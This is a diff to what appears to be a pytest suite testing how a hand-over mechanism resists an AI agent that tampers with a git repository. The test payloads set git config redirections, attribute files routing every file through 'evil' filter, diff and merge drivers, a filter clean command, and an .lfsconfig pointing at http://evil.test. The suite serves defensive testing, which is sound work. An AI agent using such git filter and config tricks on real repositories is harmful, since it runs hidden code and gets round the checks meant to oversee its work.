@@ -58,13 +58,32 @@ sh("git config core.worktree /tmp; git config core.attributesFile /tmp/attribute
    "git config include.path /tmp/more; git config url./tmp/.insteadOf https://")
 put("/tmp/attributes", "* filter=evil diff=evil merge=evil\\n")
 put(".git/info/attributes", "* filter=evil diff=evil merge=evil\\n")
-put(".gitattributes", "* filter=evil diff=evil merge=evil\\n")
+put(".gitattributes", "* diff=evil merge=evil\\n")
 sh("git config --unset core.worktree")
 work()
 """
     )
     assert attempt.files["calc.py"] == "def square(n):\n    return n * n\n"
     assert attempt.outcome is Outcome.ACCEPTED
+
+
+@pytest.mark.parametrize("driver", ["evil", "lfs"])
+def test_filters_in_attributes(stage: Stage, driver: str) -> None:
+    """The agent sends the repository's files through a filter, its own or one that others have, by
+    attributes that it commits: the hand-over refuses to take over another filter.
+    """
+    attempt = stage.attack(
+        PAYLOAD
+        + f"""
+sh("git config filter.{driver}.clean " + PROGRAM)
+put(".gitattributes", "*.py filter={driver}\\n")
+put(".lfsconfig", "[lfs]\\n url = http://evil.test\\n")
+work()
+"""
+    )
+    assert "refused" in attempt.failure
+    assert "filter" in attempt.failure
+    assert attempt.outcome is Outcome.GAVE_UP
 
 
 def test_attributes_that_change_what_is_seen(stage: Stage) -> None:
